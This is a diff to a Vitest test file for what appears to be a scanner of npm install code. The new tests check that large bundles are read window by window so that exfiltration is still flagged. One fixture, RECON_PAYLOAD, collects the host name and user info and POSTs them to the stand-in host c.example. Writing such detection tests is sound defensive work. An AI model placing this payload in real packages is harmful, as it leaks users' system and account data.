@@ -5,7 +5,7 @@
  */
 import { readFileSync, readdirSync, statSync } from 'node:fs';
 import { describe, expect, test } from 'vitest';
-import { readInstallJavaScript, stripComments } from '../../src/checks/lib/js-code.js';
+import { MAX_SCANNED_CHARS, readInstallJavaScript, readingWindows, stripComments } from '../../src/checks/lib/js-code.js';
 import { TEST_REGISTRY } from '../npm-source/fixtures.js';
 
 const FIXTURES = new URL('../../fixtures/install-code/', import.meta.url);
@@ -109,5 +109,46 @@ describe('stripComments', () => {
   test('an unterminated string or comment ends the text without a throw', () => {
     expect(stripComments("const a = 'open")).toBe("const a = 'open");
     expect(stripComments('a /* open')).toBe('a  ');
+  });
+});
+
+describe('a file longer than a window (a bundle) is read to its end, window by window', () => {
+  const MiB = 1024 * 1024;
+  /** Benign minified-looking code of about `chars` characters. */
+  const UNIT = 'var a=function(b,c){return b*3+c.length},k={id:1,f:a};a(1,k);';
+  const filler = (chars: number) => UNIT.repeat(Math.ceil(chars / UNIT.length)).slice(0, chars);
+  const RECON_PAYLOAD = "const os = require('os');\nrequire('https').request({ hostname: 'c.example', method: 'POST' }).end(JSON.stringify([os.hostname(), os.userInfo()]));";
+
+  test('the windows cover the text, each overlapping the one before', () => {
+    expect(readingWindows('abc')).toEqual(['abc']);
+    const text = filler(3 * MiB);
+    const windows = readingWindows(text);
+    // Windows start every 896 KiB: at 0, 0.875, 1.75 and 2.625 MiB.
+    expect(windows.length).toBe(4);
+    expect(windows.every((w) => w.length <= MiB)).toBe(true);
+    expect(windows.at(-1)?.endsWith(text.slice(-100))).toBe(true);
+    expect(windows[1]?.startsWith(windows[0]!.slice(-128 * 1024))).toBe(true);
+  });
+
+  test('a payload past the first MiB, at the end of a 3.5 MiB bundle, is found', () => {
+    expect(flags(`${filler(3.5 * MiB)}\n${RECON_PAYLOAD}`)).toEqual(['exfiltration']);
+    expect(flags(filler(3.5 * MiB))).toEqual([]);
+  });
+
+  test('a payload across a window border is whole in the next window', () => {
+    const border = MiB - 1000;
+    expect(flags(`${filler(border)}\n${RECON_PAYLOAD}\n${filler(MiB)}`)).toEqual(['exfiltration']);
+  });
+
+  test('a network call and host data in modules megabytes apart are not combined', () => {
+    const network = "require('https').get(url, save);";
+    const hostData = "const who = require('os').hostname();";
+    expect(flags(`${network}\n${filler(3 * MiB)}\n${hostData}`)).toEqual([]);
+    // Within a window they combine, as they do in a file of that size.
+    expect(flags(`${network}\n${filler(100_000)}\n${hostData}`)).toEqual(['exfiltration']);
+  });
+
+  test('past MAX_SCANNED_CHARS nothing is read (the facts say truncated, which install-scripts does not read as clean)', () => {
+    expect(flags(`${filler(MAX_SCANNED_CHARS)}\n${RECON_PAYLOAD}`)).toEqual([]);
   });
 });
